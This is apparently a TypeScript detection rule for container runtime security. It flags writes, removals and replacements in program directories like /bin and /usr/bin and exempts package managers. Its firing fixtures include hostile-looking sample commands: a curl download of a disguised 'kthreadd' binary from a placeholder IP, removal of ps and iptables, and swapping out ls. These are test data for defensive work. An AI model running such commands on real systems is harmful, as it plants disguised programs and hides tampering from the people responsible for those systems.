import { defineDetection, isOneOf, liesInAny, sharesAny, strings, type SyscallEvent, syscalls } from "portcullis";
import { inContainer, openWrite, place, removalIn } from "./events.ts";
import { build, by, called, failed, node, reads, web, worker, writes } from "./fixtures.ts";

export default defineDetection({
  title: "A directory of programs was changed in a container",
  description: "Whoever replaces ls or curl is run by the next person who looks around, and whoever removes a tool blinds them. Images bring their programs; a running workload changes none.",
  severity: "high",
  frameworks: { nsa: { "1.2": ["log/alerts", "pod/immutable-fs"] }, owasp: { "2022": ["K05"], "2025": ["K10"] }, seed: ["H07"] },
  techniques: ["T1554", "T1036.005"],
  source: syscalls(),
  parameters: {
    directories: strings({ default: ["/bin", "/sbin", "/usr/bin", "/usr/sbin", "/usr/local/bin", "/usr/local/sbin"], description: "Directories of programs, without a slash at the end. What lies deeper in them counts too." }),
  },
  rules: {
    a: {
      title: "A file in a directory of programs was written",
      when: ({ event, parameters }) => openWrite(event) && inContainer(event) && liesInAny(event["fd.name"], parameters.directories) && !byPackageManager(event),
      fields: ["fd.name", "proc.cmdline", "proc.pname", ...place],
    },
    b: {
      title: "A file in a directory of programs was removed or replaced",
      when: ({ event, parameters }) => removalIn(event, parameters.directories) && inContainer(event) && !byPackageManager(event),
      fields: ["evt.type", "evt.arg.path", "evt.arg.name", "evt.arg.oldpath", "evt.arg.newpath", "proc.cmdline", ...place],
    },
  },
  response: "Compare the directory with the image, keep what differs, and end the pod. Give the workload a read-only root file system.",
  fires: [
    { name: "a program is downloaded to where all are found", event: { ...worker, ...by("curl", "curl -o /usr/local/bin/kthreadd http://203.0.113.66/k"), ...writes("/usr/local/bin/kthreadd", undefined, true) }, findings: ["a"] },
    { name: "one in a directory below", event: { ...worker, ...by("cp", "cp x /usr/bin/site_perl/x"), ...writes("/usr/bin/site_perl/x") }, findings: ["a"] },
    { name: "a tool is removed", event: { ...worker, ...by("rm", "rm /usr/bin/ps"), ...called("unlinkat", { dirfd: "-100", name: "/usr/bin/ps" }) }, findings: ["b"] },
    { name: "a tool is moved away", event: { ...worker, ...by("mv", "mv /bin/ls /bin/.ls"), ...called("rename", { oldpath: "/bin/ls", newpath: "/bin/.ls" }) }, findings: ["b"] },
    { name: "a tool is replaced by one from elsewhere", event: { ...worker, ...by("mv", "mv /tmp/ls /bin/ls"), ...called("renameat2", { olddirfd: "-100", oldpath: "/tmp/ls", newdirfd: "-100", newpath: "/bin/ls" }) }, findings: ["b"] },
    { name: "unlink names its path otherwise", event: { ...worker, ...by("python3", "python3 x.py"), ...called("unlink", { path: "/sbin/iptables" }) }, findings: ["b"] },
  ],
  quiet: [
    { name: "a package is unpacked", event: { ...build, ...by("dpkg", "dpkg --unpack curl.deb", "apt-get"), ...writes("/usr/bin/curl.dpkg-new", undefined, true) } },
    { name: "a package's script links its program", event: { ...build, ...by("update-alternat", "update-alternatives --install /usr/bin/vi", "dpkg"), "proc.aname": ["vim.postinst", "dpkg", "apt-get"], ...called("rename", { oldpath: "/usr/bin/vi.dpkg-tmp", newpath: "/usr/bin/vi" }) } },
    { name: "pip writes a start script", event: { ...build, ...by("pip", "pip install gunicorn"), ...writes("/usr/local/bin/gunicorn", undefined, true) } },
    { name: "a program is read", event: { ...web, ...by("sha256sum", "sha256sum /usr/bin/curl"), ...reads("/usr/bin/curl") } },
    { name: "a directory whose name only starts alike", event: { ...web, ...by("java", "java -jar app.jar"), ...writes("/binaries/cache.idx") } },
    { name: "a log is rotated", event: { ...web, ...by("logrotate", "logrotate /etc/logrotate.conf"), ...called("rename", { oldpath: "/var/log/nginx/access.log", newpath: "/var/log/nginx/access.log.1" }) } },
    { name: "a file system that is read-only let nothing be removed", event: { ...web, ...by("rm", "rm /usr/bin/ps"), ...called("unlinkat", { name: "/usr/bin/ps" }), ...failed("EROFS", 30) } },
    { name: "the node is kept up to date", event: { ...node, ...by("cp", "cp kubelet /usr/local/bin/kubelet"), ...writes("/usr/local/bin/kubelet") } },
  ],
});

const packageManagers: readonly string[] = ["apk", "apt", "apt-get", "dpkg", "dnf", "microdnf", "rpm", "yum", "zypper", "pip", "pip3", "conda", "uv", "gem", "npm"];

/** Whether a package manager did it, or what one of them started. */
const byPackageManager = (event: SyscallEvent): boolean => isOneOf(event["proc.name"], packageManagers) || sharesAny(event["proc.aname"], packageManagers);
